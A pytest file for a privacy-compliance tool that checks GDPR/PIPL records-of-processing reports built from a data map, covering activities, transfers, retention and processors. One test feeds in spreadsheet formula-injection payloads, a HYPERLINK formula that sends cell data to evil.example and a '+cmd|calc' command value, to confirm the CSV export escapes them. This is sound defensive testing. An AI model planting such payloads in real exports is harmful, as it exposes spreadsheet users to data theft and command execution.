"""Records of processing (GDPR Art 30 / PIPL) generated from the data map: every activity with its fields."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from privet.datamap.manifest import load_manifest
from privet.kit.errors import InvalidInput
from privet.reports import ropa
from tests.reports.datamap import ACTIVITIES, apply_datamap, write_datamap


@pytest.fixture
def mapped(db: Session, tmp_path: Path) -> Session:
    apply_datamap(db, tmp_path / "dm")
    return db


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.sections: dict[str, list[str]] = {}
        self._current: str | None = None

    def handle_starttag(self, tag: str, attrs: list) -> None:
        ident = dict(attrs).get("id") or ""
        if tag == "section" and ident.startswith("activity-"):
            self._current = ident[len("activity-") :]
            self.sections[self._current] = []

    def handle_data(self, data: str) -> None:
        if self._current:
            self.sections[self._current].append(data)


def test_nothing_to_record_without_a_data_map(db: Session) -> None:
    with pytest.raises(InvalidInput, match="No data map"):
        ropa.build(db)


def test_html_and_csv_hold_every_activity_with_its_fields(mapped: Session, tmp_path: Path) -> None:
    manifest = load_manifest(write_datamap(tmp_path / "again")).manifest
    html = ropa.render(mapped, "html")
    rows = {r["activity"]: r for r in csv.DictReader(io.StringIO(ropa.render(mapped, "csv")))}
    parser = _Text()
    parser.feed(html)
    assert set(rows) == set(parser.sections) == set(ACTIVITIES)
    assert "Acme Devices" in html and "Personal Information Protection Officer" in html
    for a in manifest.processing_activities:
        row, text = rows[a.key], " ".join(parser.sections[a.key])
        assert row["name"] == a.name and a.name in text
        assert row["purpose"] == a.purpose and a.purpose in text
        assert row["legal_basis"] == a.legal_basis and a.legal_basis in text
        categories = [*a.required_categories, *a.optional_categories]
        assert row["categories"].split("; ") == categories and all(c in text for c in categories)
        assert row["subject_types"] == "; ".join(a.subject_types) and all(s in text for s in a.subject_types)
        assert row["recipients"] == "; ".join(a.recipients) and all(x in text for x in a.recipients)
        assert row["processors"] == "; ".join(a.processors) and all(x in text for x in a.processors)
        assert row["datasets"] == "; ".join(a.datasets)
        for t in a.transfers:
            assert f"{t.destination} via {t.mechanism} to {t.recipient}" in row["transfers"]
            named = ropa.labels("en")["mechanisms"][t.mechanism]  # the page names it, the key kept beside
            assert f"{t.destination} via {named}" in text and t.mechanism in text
        if a.retention:
            words = ropa.labels("en")  # the period and its trigger in words: "3 years after account closure"
            assert row["retention"] == (
                f"{ropa.period(a.retention.duration, words)} after {words['triggers'][a.retention.trigger]}"
            )
            assert row["retention"] in text
    assert rows["face_login"]["sensitive_categories"] == "user.biometric.face"
    assert "sensitive (biometric)" in " ".join(parser.sections["face_login"])
    assert rows["global_support"]["storage_locations"] == "CN; DE"
    assert rows["global_support"]["datastores"] == "eu_desk (DE)"
    assert rows["orders"]["storage_locations"] == "CN" and rows["newsletter"]["storage_locations"] == "CN"
    assert rows["orders"]["table_retention"] == "app.customers: 2 years after account closure, delete"
    assert "app.customers: 2 years after account closure, delete" in " ".join(parser.sections["orders"])


def test_registered_transfers_and_assessments_appear(mapped: Session) -> None:
    from privet.registers import crossborder
    from privet.reports import pia

    crossborder.record_transfer(
        mapped,
        actor="t",
        destination="DE",
        mechanism="standard_contract",
        recipient="eu_desk_gmbh",
        categories=["user.contact.email"],
        subject_count=40,
        activity="global_support",
        at=datetime(2026, 2, 1, tzinfo=UTC),
    )
    pia.sync_drafts(mapped, actor="t")
    rows = {r["activity"]: r for r in csv.DictReader(io.StringIO(ropa.render(mapped, "csv")))}
    assert rows["global_support"]["registered_transfers"] == "1 transfers, 40 people"
    assert rows["global_support"]["impact_assessment"].endswith("(draft)")
    assert rows["orders"]["impact_assessment"] == ""


def test_registered_processors_and_recipients_are_described(mapped: Session) -> None:
    from privet.registers.models import Processor, Recipient

    mapped.add(
        Processor(key="mail_vendor", name="Mailer Ltd", regions=["CN"], agreement_ref="DPA-7", created_by="test")
    )
    mapped.add(Recipient(key="partner_co", name="Partner Co", kind="partner", region="CN", created_by="test"))
    mapped.flush()
    rows = {r["activity"]: r for r in csv.DictReader(io.StringIO(ropa.render(mapped, "csv")))}
    assert rows["newsletter"]["processor_details"] == "mail_vendor: Mailer Ltd (CN; agreement DPA-7)"
    assert rows["partner_offers"]["recipient_details"] == "partner_co: Partner Co (partner, CN)"
    assert "Mailer Ltd (CN; agreement DPA-7)" in ropa.render(mapped, "html")


def test_csv_cells_never_run_as_formulas() -> None:
    from privet.reports.ropa import CSV_COLUMNS, to_csv

    entry = dict.fromkeys(CSV_COLUMNS, "") | {
        "categories": [],
        "subject_types": [],
        "datastores": [],
        "transfers": [],
        "registered_transfers": {"count": 0, "people": 0},
    }
    entry |= {"name": '=HYPERLINK("https://evil.example/?"&A1,"open")', "purpose": "+cmd|calc"}
    records = {"activities": [entry]}
    text = to_csv(records)
    assert "'=HYPERLINK" in text and "'+cmd" in text and "\n=HYPERLINK" not in text


def test_a_table_with_several_retention_rules_lists_each(db: Session, tmp_path: Path) -> None:
    """`retention:` may be a list of rules (e.g. anonymise some fields early, delete the row later): the records
    name every rule of the table, not only one (reading it as one rule crashed the report)."""
    from privet.datamap.service import validate_and_apply
    from tests.reports import datamap

    one = "retention: {duration: P2Y, trigger: account_closure, column: closed_at}"
    assert datamap.DATAMAP.count(one) == 1
    several = (
        "retention:\n"
        "          - {duration: P30D, trigger: account_closure, column: closed_at, action: 'null', fields: [name]}\n"
        "          - {duration: P2Y, trigger: account_closure, column: closed_at}"
    )
    path = tmp_path / "dm" / "datamap.yaml"
    path.parent.mkdir()
    path.write_text(datamap.DATAMAP.replace(one, several), encoding="utf-8")
    validate_and_apply(db, path, actor="test")
    db.flush()
    rules = [r for entry in ropa.build(db)["activities"] for r in entry["table_retention"]]
    kept = [r for r in rules if ".customers:" in r or "people." in r]
    assert len(set(kept)) == 2, rules
    assert any("30 days" in r for r in kept) and any("2 years" in r for r in kept), kept
